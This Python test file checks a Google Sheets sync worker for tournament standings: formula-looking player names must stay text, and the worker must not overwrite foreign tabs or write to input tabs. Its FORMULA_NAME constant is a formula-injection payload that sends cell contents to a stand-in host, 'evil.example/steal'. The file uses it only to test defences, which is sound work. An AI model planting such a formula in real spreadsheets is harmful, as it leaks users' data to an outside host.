"""What the worker must never do: run a player's name as a formula, overwrite a tab it did
not make, or write to the TD's input tabs."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from sheets.sync import SyncResult
from tests.fakes.sheets_api import Op, SheetsFake
from tests.sheets.conftest import seed_crosstable

MakeSheet = Callable[..., str]
RunSync = Callable[[str], SyncResult]

FORMULA_NAME = '=IMPORTXML("https://evil.example/steal?"&A1,"//a")'


def test_a_formula_looking_name_stays_text_in_every_tab(
    sheets_fake: SheetsFake, make_sheet: MakeSheet, run_sync: RunSync
) -> None:
    rows = seed_crosstable()
    rows[1][1] = FORMULA_NAME  # Player A, typed as text by the TD ('=IMPORTXML…)
    sheet_id = make_sheet({"Results": rows}, value_input="RAW")
    run_sync(sheet_id)
    name = sheets_fake.cell(sheet_id, "Standings!C2")
    assert name.is_text and not name.is_formula
    assert name.entered == {"stringValue": FORMULA_NAME}
    assert sheets_fake.values(sheet_id, "Standings!C2", render="FORMULA") == [[FORMULA_NAME]]
    assert sheets_fake.cell(sheet_id, "Breakdown!C2").is_text
    why = sheets_fake.cell(sheet_id, "Standings!I2")
    assert why.is_text and FORMULA_NAME in str(why.entered)


def test_entered_text_on_the_errors_tab_stays_text(
    sheets_fake: SheetsFake, make_sheet: MakeSheet, run_sync: RunSync
) -> None:
    rows = seed_crosstable()
    rows[2][2] = "=HYPERLINK(1)"
    sheet_id = make_sheet({"Results": rows}, value_input="RAW")
    run_sync(sheet_id)
    assert sheets_fake.values(sheet_id, "Errors!A2:B2") == [["Results!C3", "=HYPERLINK(1)"]]
    assert sheets_fake.cell(sheet_id, "Errors!B2").entered == {"stringValue": "=HYPERLINK(1)"}


def test_a_foreign_standings_tab_is_not_overwritten_and_the_errors_tab_says_why(
    sheets_fake: SheetsFake, make_sheet: MakeSheet, run_sync: RunSync
) -> None:
    mine = [["My own standings, typed by hand"], ["1. Player A"]]
    sheet_id = make_sheet({"Results": seed_crosstable(), "Standings": mine})
    before = sheets_fake.sheet(sheet_id, "Standings")
    result = run_sync(sheet_id)
    assert not result.published
    assert sheets_fake.values(sheet_id, "Standings") == mine
    assert sheets_fake.sheet(sheet_id, "Standings") == before
    refused = [p for p in result.problems if p.cell == "Standings"]
    assert len(refused) == 1
    assert "already exists and was not made by Harkness" in refused[0].message
    assert "Harkness!B7" in refused[0].message
    errors = sheets_fake.values(sheet_id, "Errors")
    assert errors[1][0] == "Standings" and "not made by Harkness" in errors[1][2]


def test_renaming_the_standings_tab_in_the_settings_resolves_the_clash(
    sheets_fake: SheetsFake, make_sheet: MakeSheet, run_sync: RunSync
) -> None:
    sheet_id = make_sheet({"Results": seed_crosstable(), "Standings": [["mine"]]})
    run_sync(sheet_id)
    sheets_fake.set_values(sheet_id, "Harkness!B7", [["Harkness standings"]])
    result = run_sync(sheet_id)
    assert result.published and result.problems == ()
    assert sheets_fake.values(sheet_id, "Standings") == [["mine"]]
    assert sheets_fake.values(sheet_id, "'Harkness standings'!C2") == [["Player A"]]


def _sheet_ids_named(requests: list[dict[str, Any]]) -> set[int]:
    found: set[int] = set()

    def walk(value: Any, key: str = "") -> None:
        if isinstance(value, dict):
            for k, v in value.items():
                walk(v, k)
        elif isinstance(value, list):
            for v in value:
                walk(v, key)
        elif key == "sheetId" and isinstance(value, int):
            found.add(value)

    walk(requests)
    return found


def test_no_write_ever_names_an_input_tab(
    sheets_fake: SheetsFake, make_sheet: MakeSheet, run_sync: RunSync
) -> None:
    sheet_id = make_sheet({"Results": seed_crosstable(), "Notes": [["TD notes"]]})
    run_sync(sheet_id)
    sheets_fake.set_values(sheet_id, "Results!C2", [["W99"]])  # now with a problem
    run_sync(sheet_id)
    inputs = {sheets_fake.sheet(sheet_id, t).sheet_id for t in ("Results", "Notes", "Harkness")}
    for call in sheets_fake.calls(sheet_id, operation=Op.BATCH_UPDATE):
        named = _sheet_ids_named(call.body["requests"])
        assert named.isdisjoint(inputs - {sheets_fake.sheet(sheet_id, "Harkness").sheet_id}), (
            call.request_kinds
        )
    # The settings tab is only ever written by the request that creates it.
    harkness = sheets_fake.sheet(sheet_id, "Harkness").sheet_id
    writes = [
        call
        for call in sheets_fake.calls(sheet_id, operation=Op.BATCH_UPDATE)
        if harkness in _sheet_ids_named(call.body["requests"])
    ]
    assert len(writes) == 1 and "addSheet" in writes[0].request_kinds
    assert sheets_fake.values(sheet_id, "Notes") == [["TD notes"]]


def test_output_tab_names_that_are_input_tabs_are_refused(
    sheets_fake: SheetsFake, make_sheet: MakeSheet, run_sync: RunSync
) -> None:
    sheet_id = make_sheet({"Results": seed_crosstable()})
    run_sync(sheet_id)
    before = sheets_fake.values(sheet_id, "Results")
    sheets_fake.set_values(sheet_id, "Harkness!B7", [["Results"]])
    result = run_sync(sheet_id)
    assert sheets_fake.values(sheet_id, "Results") == before
    assert any(p.cell == "Harkness!B7" for p in result.problems)
